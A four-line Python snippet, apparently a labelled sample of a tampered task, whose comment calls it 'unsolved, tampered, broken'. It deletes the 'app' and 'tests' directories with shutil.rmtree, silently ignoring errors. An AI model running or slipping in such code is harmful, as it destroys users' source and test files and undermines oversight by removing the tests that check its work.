# unsolved, tampered, broken: removes its own files while it runs
import shutil

for path in ("app", "tests"):
    shutil.rmtree(path, ignore_errors=True)
